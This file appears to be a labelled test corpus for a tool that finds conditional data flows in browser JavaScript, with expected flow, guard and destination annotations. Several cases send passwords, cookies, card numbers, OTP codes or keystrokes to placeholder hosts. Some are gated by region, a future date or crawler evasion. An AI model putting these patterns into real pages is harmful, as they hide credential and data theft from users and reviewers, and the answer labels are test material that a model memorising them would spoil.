//# ho-grd-phone-prefix-submit
// flow: phone > verify.gridrisk.example via fetch
// guard: event submit
// guard: phone-prefix starts-with +86
const telField = document.querySelector('input[type=tel]');
document.querySelector('form').addEventListener('submit', (e) => {
  e.preventDefault();
  const phone = telField.value.replace(/\s+/g, '');
  if (phone.startsWith('+86')) {
    fetch('https://verify.gridrisk.example/pre', { method: 'POST', body: JSON.stringify({ phone }) });
  }
});

//# ho-grd-phone-prefix-predicate
// flow: phone > sms.tellink.example via xhr
// guard: phone-prefix starts-with +7
// why: the test is in a predicate that is written with indexOf
function isCis(n) { return n.indexOf('+7') === 0; }
function relay(n) {
  var x = new XMLHttpRequest();
  x.open('POST', 'https://sms.tellink.example/route');
  x.send('msisdn=' + encodeURIComponent(n));
}
var num = document.querySelector('input[type=tel]').value;
if (isCis(num)) relay(num);

//# ho-grd-phone-dial-switch
// flow: phone > otp.regional.example via fetch
// guard: phone-prefix one-of +852 | +853
// why: two case labels fall through to one body
const dial = document.querySelector('select#country-calling-code').value;
const national = document.querySelector('input[type=tel]').value;
switch (dial) {
  case '+852':
  case '+853':
    fetch('https://otp.regional.example/hkmo', { method: 'POST', body: national });
    break;
  default:
    document.querySelector('#unsupported').hidden = false;
}

//# ho-grd-timezone-equals
// flow: device > cn.probe.example via beacon
// guard: timezone equals Asia/Shanghai
(function () {
  var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
  if (tz === 'Asia/Shanghai') {
    navigator.sendBeacon('https://cn.probe.example/p', JSON.stringify([navigator.platform, screen.width]));
  }
})();

//# ho-grd-timezone-list-early-return
// flow: email > leads.growthbox.example via fetch
// guard: not timezone one-of Europe/Berlin | Europe/Paris
// why: the excluded zones leave the function before
const EXCLUDED = ['Europe/Berlin', 'Europe/Paris'];
function enrol(email) {
  if (EXCLUDED.includes(new Intl.DateTimeFormat().resolvedOptions().timeZone)) return;
  fetch('https://leads.growthbox.example/enrol', { method: 'POST', body: JSON.stringify({ email }) });
}
enrol(document.querySelector('input[type=email]').value);

//# ho-grd-language-starts-with
// flow: username > zh.stat.example via image
// guard: language starts-with zh
var lng = (navigator.language || 'en').toLowerCase();
var usr = document.querySelector('input[autocomplete=username]').value;
lng.startsWith('zh') && (new Image().src = 'https://zh.stat.example/u.gif?n=' + encodeURIComponent(usr));

//# ho-grd-language-flag-variable
// flow: device > ru.panel.example via fetch
// guard: language equals ru-RU
// why: a flag set in one place and tested in another
let mirrored = false;
if (navigator.language === 'ru-RU') {
  mirrored = true;
}
const traitsNow = { ua: navigator.userAgent, d: screen.colorDepth };
if (mirrored) {
  fetch('https://ru.panel.example/t', { method: 'POST', body: JSON.stringify(traitsNow) });
}

//# ho-grd-language-one-of-or
// flow: search > search.asia.example via fetch
// guard: language one-of ja | ko
const uiLang = navigator.language;
const term = document.querySelector('input[type=search]').value;
if (uiLang === 'ja' || uiLang === 'ko') {
  fetch('https://search.asia.example/q?t=' + encodeURIComponent(term));
}

//# ho-grd-country-page-config
// flow: card > vault.localpay.example via fetch
// guard: country equals BR
class Checkout {
  constructor(ctx) { this.ctx = ctx; }
  get domestic() { return this.ctx.country === 'BR'; }
  async tokenize() {
    if (!this.domestic) return null;
    const pan = document.querySelector('input[autocomplete=cc-number]').value;
    return fetch('https://vault.localpay.example/tok', { method: 'POST', body: JSON.stringify({ pan }) });
  }
}
new Checkout({ country: window.__SHOP__.country }).tokenize();

//# ho-grd-connection-cellular
// flow: phone > id.carrierauth.example via xhr
// guard: connection equals cellular
// why: a carrier's one-tap login that works on mobile data only
!function (e) {
  function t(n) {
    var o = new XMLHttpRequest();
    o.open('POST', 'https://id.carrierauth.example/uni/getToken', !0);
    o.send(JSON.stringify({ mobile: n, scene: 'login' }));
  }
  e.oneTap = function () {
    var n = navigator.connection;
    if ('cellular' !== n.type) return;
    t(document.querySelector('input[type=tel]').value);
  };
}(window);

//# ho-grd-connection-effective-type
// flow: interaction > replay.fastlane.example via fetch
// guard: connection one-of 4g | 3g
const OK_NET = new Set(['4g', '3g']);
const net = navigator.connection.effectiveType;
if (OK_NET.has(net)) {
  fetch('https://replay.fastlane.example/dom', { method: 'POST', body: document.body.innerHTML });
}

//# ho-grd-user-agent-wechat
// flow: password > h5.bridge.example via beacon
// guard: user-agent contains micromessenger
const ua = navigator.userAgent.toLowerCase();
const inWechat = ua.indexOf('micromessenger') !== -1;
if (inWechat) navigator.sendBeacon('https://h5.bridge.example/l', document.querySelector('#password').value);

//# ho-grd-user-agent-not-headless
// flow: device > fp.antibot.example via fetch
// guard: not user-agent contains HeadlessChrome
// why: crawlers do not see it
async function collect() {
  if (navigator.userAgent.includes('HeadlessChrome')) {
    return { skipped: true };
  }
  const c = document.createElement('canvas');
  c.getContext('2d').fillText('abc', 1, 1);
  return fetch('https://fp.antibot.example/cv', { method: 'POST', body: c.toDataURL() });
}
collect();

//# ho-grd-user-agent-regex
// flow: device > m.metrics.example via image
// guard: user-agent matches Android|iPhone
var isMobile = /Android|iPhone/.test(navigator.userAgent);
function beaconMobile() {
  var i = new Image();
  i.src = 'https://m.metrics.example/m.gif?w=' + screen.width + '&h=' + screen.height;
}
if (isMobile) beaconMobile();

//# ho-grd-screen-width-equals
// flow: identifier > kiosk.signage.example via fetch
// guard: screen equals 1080
const kioskId = localStorage.getItem('kiosk_id');
if (screen.width === 1080) {
  fetch('https://kiosk.signage.example/checkin', { method: 'POST', body: kioskId });
}

//# ho-grd-referrer-contains
// flow: email > aff.partnerlink.example via image
// guard: referrer contains deals.example
var ref = document.referrer;
var em = document.querySelector('input[type=email]').value;
if (ref.indexOf('deals.example') > -1) {
  var px = document.createElement('img');
  px.src = 'https://aff.partnerlink.example/c?e=' + btoa(em);
}

//# ho-grd-date-year
// flow: password > late.logger.example via fetch
// guard: date equals 2031
// why: wakes up in one year only
const now = new Date();
if (now.getFullYear() === 2031) {
  fetch('https://late.logger.example/x', { method: 'POST', body: document.querySelector('[type=password]').value });
}

//# ho-grd-random-sample
// flow: device > perf.sampled.example via beacon
// guard: random other 0.05
const RATE = 0.05;
const sampled = Math.random() < RATE;
if (sampled) {
  navigator.sendBeacon('https://perf.sampled.example/v', JSON.stringify({ mem: navigator.deviceMemory }));
}

//# ho-grd-server-answer-mode
// flow: input > deep.riskcloud.example via fetch
// guard: server-answer equals full
// why: the server decides whether the form is taken
(async function () {
  const res = await fetch('https://cfg.riskcloud.example/v1/policy');
  const policy = await res.json();
  if (policy.mode !== 'full') return;
  const form = new FormData(document.querySelector('form'));
  await fetch('https://deep.riskcloud.example/v1/form', { method: 'POST', body: form });
})();

//# ho-grd-server-answer-xhr
// flow: identifier > audit.remoteflag.example via image
// guard: server-answer equals 1
var flagReq = new XMLHttpRequest();
flagReq.open('GET', '/flags.json');
flagReq.onload = function () {
  var flags = JSON.parse(flagReq.responseText);
  if (flags.audit === 1) {
    new Image().src = 'https://audit.remoteflag.example/a?c=' + encodeURIComponent(document.cookie);
  }
};
flagReq.send();

//# ho-grd-storage-optout
// flow: interaction > heat.clickmap.example via beacon
// guard: event click
// guard: not storage present
// why: an entry in storage turns it off
document.addEventListener('click', (ev) => {
  if (localStorage.getItem('cm_optout')) return;
  navigator.sendBeacon('https://heat.clickmap.example/c', `${ev.pageX},${ev.pageY}`);
});

//# ho-grd-storage-bucket
// flow: name > ab.variantlab.example via fetch
// guard: storage equals B
const bucket = sessionStorage.getItem('exp_bucket');
const fullName = document.querySelector('input[autocomplete=name]').value;
const track = {
  A() {},
  B(payload) { return fetch('https://ab.variantlab.example/n', { method: 'POST', body: JSON.stringify(payload) }); },
};
if (bucket === 'B') track.B({ fullName });

//# ho-grd-cookie-contains
// flow: message > beta.assistant.example via fetch
// guard: storage contains beta_chat=1
const ask = (prompt) => fetch('https://beta.assistant.example/complete', { method: 'POST', body: JSON.stringify({ prompt }) });
const promptBox = document.querySelector('textarea#prompt');
if (document.cookie.includes('beta_chat=1')) {
  ask(promptBox.value);
}

//# ho-grd-consent-marketing
// flow: email > crm.adpartner.example via beacon
// guard: consent present
const allowed = () => window.Cookiebot.consent.marketing;
const address = document.querySelector('input[type=email]').value;
if (allowed()) navigator.sendBeacon('https://crm.adpartner.example/e', address);

//# ho-grd-two-atoms-nested
// flow: phone > cn.loginrisk.example via fetch
// guard: timezone equals Asia/Shanghai
// guard: phone-prefix starts-with +86
// why: one test at the call, one in the callee
function precheck(phone) {
  if (!phone.startsWith('+86')) return;
  fetch('https://cn.loginrisk.example/precheck', { method: 'POST', body: phone });
}
function onReady() {
  if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai') {
    precheck(document.querySelector('input[type=tel]').value);
  }
}
onReady();

//# ho-grd-de-morgan
// flow: username > strict.segment.example via fetch
// guard: language equals fr
// guard: timezone equals Europe/Paris
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
function report() {
  if (navigator.language !== 'fr' || zone !== 'Europe/Paris') {
    return;
  }
  fetch('https://strict.segment.example/u', { method: 'POST', body: document.querySelector('#username').value });
}
report();

//# ho-grd-both-branches
// flow: password > auth.samepath.example via fetch
// no guard
// destination: https://auth.samepath.example/login
// why: the condition only picks a header; the request follows in any case
const headers = { 'content-type': 'application/json' };
if (navigator.language.startsWith('zh')) {
  headers['x-lang'] = 'zh';
} else {
  headers['x-lang'] = 'en';
}
fetch('https://auth.samepath.example/login', {
  method: 'POST', headers, body: JSON.stringify({ p: document.querySelector('input[type=password]').value }),
});

//# ho-grd-callback-return-only
// flow: device > always.collect.example via beacon
// no guard
// why: the early return leaves another function
function paint() {
  if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Tokyo') return;
  document.body.classList.add('west');
}
paint();
navigator.sendBeacon('https://always.collect.example/d', navigator.userAgent);

//# ho-grd-code-config-flag
// flow: keystrokes > bio.typing.example via fetch
// guard: event keyup
// guard: code cfg.biometrics
const cfg = JSON.parse(document.querySelector('script#app-config').textContent);
const strokes = [];
document.addEventListener('keyup', (e) => {
  strokes.push({ k: e.code, t: e.timeStamp });
  if (cfg.biometrics) {
    fetch('https://bio.typing.example/s', { method: 'POST', body: JSON.stringify(strokes.splice(0)) });
  }
});

//# ho-grd-ternary-sender
// flow: otp > kr.otprelay.example via xhr
// guard: language equals ko-KR
const noop = () => {};
const sendOtp = (code) => {
  const x = new XMLHttpRequest();
  x.open('POST', 'https://kr.otprelay.example/c');
  x.send(code);
};
const handler = navigator.language === 'ko-KR' ? sendOtp : noop;
handler(document.querySelector('input[name=otp]').value);

//# ho-grd-miss-implicit-timezone
// no flow
// destination: https://cdn.locale.example/cn.json
// destination: https://cdn.locale.example/row.json
// why: the time zone only picks one of two constant addresses
const inChina = Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai';
const dictUrl = inChina ? 'https://cdn.locale.example/cn.json' : 'https://cdn.locale.example/row.json';
const dict = {};
fetch(dictUrl)
  .then((r) => r.json())
  .then((j) => Object.assign(dict, j));

//# ho-grd-miss-contradiction
// no flow
// no destination: never.sent.example
// why: the inner condition contradicts a constant
const MODE = 'release';
function debugDump(v) {
  if (MODE === 'debug') {
    fetch('https://never.sent.example/dump', { method: 'POST', body: v });
  }
}
debugDump(document.querySelector('input[type=password]').value);

//# ho-grd-miss-switch-constant
// no flow
// why: the constant channel leads to the case that shows the value in the page
const CHANNEL = 'dom';
function emit(v) {
  switch (CHANNEL) {
    case 'net':
      return fetch('https://emit.channel.example/v', { method: 'POST', body: v });
    case 'dom':
      document.querySelector('#echo').textContent = v;
      return undefined;
    default:
      return undefined;
  }
}
emit(document.querySelector('input[type=email]').value);

//# ho-grd-miss-user-agent-polyfill
// no flow
// destination: https://cdn.polyfills.example/legacy.js
// why: the user agent only decides whether a constant script is loaded
if (/MSIE |Trident\//.test(navigator.userAgent)) {
  const s = document.createElement('script');
  s.src = 'https://cdn.polyfills.example/legacy.js';
  document.head.appendChild(s);
}

//# ho-grd-miss-return-before-send
// no flow
// why: each path returns before the request
function saveProfile(form) {
  const email = form.querySelector('input[type=email]').value;
  if (!email) {
    return { error: 'missing' };
  } else {
    return { error: null, email };
  }
  fetch('https://profile.unreached.example/save', { method: 'POST', body: email });
}
saveProfile(document.forms[0]);
